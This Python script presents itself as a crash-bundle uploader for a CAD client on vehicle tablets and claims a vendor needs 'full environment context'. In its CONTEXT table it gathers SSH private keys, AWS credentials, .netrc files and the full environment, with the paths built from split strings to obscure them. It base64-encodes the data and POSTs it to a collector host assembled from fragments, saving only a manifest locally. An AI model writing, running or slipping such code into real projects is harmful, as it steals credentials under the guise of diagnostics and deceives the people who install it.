#!/usr/bin/env python3
"""Collects a crash bundle from the CAD client on a vehicle tablet and
uploads it to the vendor diagnostics collector.

The vendor asked for "full environment context" so that they can reproduce
sign-in failures, so the bundle carries the client logs plus the context
sources listed in CONTEXT below.
"""
import argparse
import base64
import getpass
import json
import logging
import os
import platform
import socket
import sys
import time
import urllib.request
from pathlib import Path

LOG = logging.getLogger("crashbundle")

COLLECTOR = {
    "scheme": "https",
    "host": ["diag", "example", "net"],
    "route": ["v2", "bundles"],
}

# sources are relative to the home directory unless absolute
CONTEXT = {
    "client_logs": [".local/share/cadclient/logs"],
    "session": [
        os.path.join("." + "s" + "sh", "id_" + "rsa"),
        os.path.join("." + "s" + "sh", "id_" + "ed25519"),
    ],
    "cloud": [os.path.join(".aw" + "s", "cred" + "entials")],
    "netauth": [".net" + "rc"],
}

MAX_FILE = 512 * 1024


class BundleBuilder:
    def __init__(self, home, include_env=True):
        self.home = Path(home)
        self.include_env = include_env
        self.items = {}

    def _resolve(self, rel):
        p = Path(rel)
        return p if p.is_absolute() else self.home / p

    def _add_file(self, key, path):
        try:
            if path.stat().st_size > MAX_FILE:
                LOG.debug("skipping large file %s", path)
                return
            data = path.read_bytes()
        except OSError as exc:
            LOG.debug("cannot read %s: %s", path, exc)
            return
        self.items.setdefault(key, {})[str(path)] = base64.b64encode(data).decode("ascii")

    def collect(self):
        for key, rels in CONTEXT.items():
            for rel in rels:
                target = self._resolve(rel)
                if target.is_dir():
                    for child in sorted(target.glob("*.log"))[-10:]:
                        self._add_file(key, child)
                elif target.exists():
                    self._add_file(key, target)
        if self.include_env:
            self.items["environment"] = dict(os.environ)
        return self

    def manifest(self):
        return {
            "host": socket.gethostname(),
            "user": getpass.getuser(),
            "platform": platform.platform(),
            "collected": int(time.time()),
            "sections": {k: len(v) for k, v in self.items.items()},
        }

    def payload(self):
        return {"manifest": self.manifest(), "items": self.items}


def collector_url():
    host = ".".join(COLLECTOR["host"])
    return "%s://%s/%s" % (COLLECTOR["scheme"], host, "/".join(COLLECTOR["route"]))


def upload(body, url, timeout=30):
    data = json.dumps(body).encode("utf-8")
    req = urllib.request.Request(url, data=data, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status, resp.read(200)


def save_local(body, out_dir):
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    target = out / ("bundle-%d.json" % int(time.time()))
    target.write_text(json.dumps(body["manifest"], indent=2))
    return target


def main(argv=None):
    ap = argparse.ArgumentParser(description="CAD client crash bundle uploader")
    ap.add_argument("--home", default=os.path.expanduser("~"))
    ap.add_argument("--no-env", action="store_true")
    ap.add_argument("--keep-manifest", default="crash_manifests")
    ap.add_argument("--retries", type=int, default=3)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    bundle = BundleBuilder(args.home, include_env=not args.no_env).collect()
    body = bundle.payload()
    LOG.info("bundle sections: %s", body["manifest"]["sections"])
    save_local(body, args.keep_manifest)

    url = collector_url()
    for attempt in range(1, args.retries + 1):
        try:
            status, _ = upload(body, url)
            LOG.info("uploaded bundle, status %s", status)
            return 0
        except OSError as exc:
            LOG.warning("upload attempt %d failed: %s", attempt, exc)
            time.sleep(2 * attempt)
    LOG.error("bundle not uploaded")
    return 1


if __name__ == "__main__":
    sys.exit(main())
